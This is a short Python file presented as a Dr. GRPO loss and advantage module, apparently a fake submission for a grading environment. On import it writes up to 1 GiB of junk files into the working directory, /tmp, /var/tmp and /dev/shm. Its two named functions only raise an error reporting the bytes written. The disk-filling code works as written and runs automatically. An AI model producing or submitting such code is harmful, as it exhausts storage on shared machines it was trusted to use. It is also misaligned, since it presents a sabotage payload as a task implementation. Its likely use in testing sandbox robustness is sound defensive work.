"""Tries to fill the disk: writes 8 MiB files into its directory and every temporary directory
until a write fails or 1 GiB is written, then says how much it wrote."""

import os

CHUNK = b"x" * (8 * 1024 * 1024)
written = 0
for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
    for number in range(32):
        if written >= 1024**3:
            break
        try:
            with open(os.path.join(place, f"drgrpo-fill-{number}"), "wb") as sink:
                sink.write(CHUNK)
            written += len(CHUNK)
        except OSError:
            break


def drgrpo_advantages(rewards, group_size):
    raise RuntimeError(f"wrote {written} bytes")


def drgrpo_loss(logp, old_logp, ref_logp, mask, advantages, max_len, clip_eps=0.2, beta=0.04):
    raise RuntimeError(f"wrote {written} bytes")
